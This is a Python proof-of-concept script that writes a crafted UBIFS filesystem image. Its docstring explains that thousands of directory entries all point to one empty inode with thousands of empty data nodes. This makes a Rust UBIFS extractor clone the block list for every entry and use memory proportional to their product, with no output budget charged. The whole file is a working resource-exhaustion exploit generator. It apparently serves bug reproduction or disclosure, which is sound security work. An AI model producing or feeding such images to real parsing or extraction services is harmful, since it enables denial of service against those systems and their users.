#!/usr/bin/env python3
"""UBIFS: D directory entries naming one regular-file inode that has B data
nodes. Ubifs::extract clones the inode's Vec<DataBlock> (40 B each) for every
directory entry (`tree.data.get(&inum).cloned()`), so listing holds D*B*40
bytes. Data nodes carry 0 bytes and the inode size is 0: nothing is produced,
so no byte budget is charged."""
import struct, sys, zlib
D = int(sys.argv[1]) if len(sys.argv) > 1 else 3000
B = int(sys.argv[2]) if len(sys.argv) > 2 else D
out = sys.argv[3] if len(sys.argv) > 3 else f"/tmp/ubifs_dent_clone_{D}x{B}.bin"
MAGIC = bytes([0x31, 0x18, 0x10, 0x06])
LEB = 4096
def crc(b): return (~zlib.crc32(b)) & 0xffffffff
def node(kind, body_len, fill):
    n = bytearray(body_len)
    fill(n)
    n[0:4] = MAGIC
    struct.pack_into('<Q', n, 8, 1)
    struct.pack_into('<I', n, 16, len(n))
    n[20] = kind
    struct.pack_into('<I', n, 4, crc(bytes(n[8:])))
    return bytes(n)
img = bytearray()
def sb(n): struct.pack_into('<I', n, 36, LEB)
img += node(6, 88, sb)
img += b'\0' * (LEB - len(img))
positions = []
body = bytearray()
base = 3 * LEB     # nodes after LEB 0..2
def place(nd):
    positions.append(base + len(body))
    body.extend(nd)
    body.extend(b'\0' * (-len(body) % 8))
def ino(inum, mode):
    def f(n):
        struct.pack_into('<I', n, 24, inum)
        struct.pack_into('<Q', n, 48, 0)       # size 0
        struct.pack_into('<I', n, 104, mode)
        struct.pack_into('<I', n, 112, 0)
    return node(0, 160, f)
place(ino(1, 0o040755))
place(ino(2, 0o100644))
for i in range(D):
    def f(n):
        struct.pack_into('<I', n, 24, 1)       # parent
        struct.pack_into('<Q', n, 40, 2)       # inum
        struct.pack_into('<H', n, 50, 1)
        n[56] = ord('a')
    place(node(2, 57, f))
for i in range(B):
    def f(n):
        struct.pack_into('<I', n, 24, 2)
        struct.pack_into('<I', n, 28, i & 0x1fffffff)   # block number (distinct, not needed)
        struct.pack_into('<I', n, 40, 0)       # size 0
        struct.pack_into('<H', n, 44, 0)       # compr none
    place(node(1, 48, f))
# index nodes (<=65535 branches each) and a root index above them
def idx(targets):
    def f(n):
        struct.pack_into('<H', n, 24, len(targets))
        for i, t in enumerate(targets):
            struct.pack_into('<II', n, 28 + 20 * i, 0, t)   # lnum 0, offs = absolute
    return node(9, 28 + 20 * len(targets), f)
leaves = positions[:]
children = []
for k in range(0, len(leaves), 60000):
    children.append(base + len(body))
    body.extend(idx(leaves[k:k+60000])); body.extend(b'\0' * (-len(body) % 8))
root_at = base + len(body)
body.extend(idx(children)); body.extend(b'\0' * (-len(body) % 8))
def mst(n):
    struct.pack_into('<Q', n, 8, 1)
    struct.pack_into('<I', n, 48, 0)
    struct.pack_into('<I', n, 52, root_at)
m = node(7, 64, mst)
img += m + b'\0' * (LEB - len(m))   # LEB 1
img += b'\0' * LEB                  # LEB 2
img += body
open(out, 'wb').write(img)
print(out, len(img))
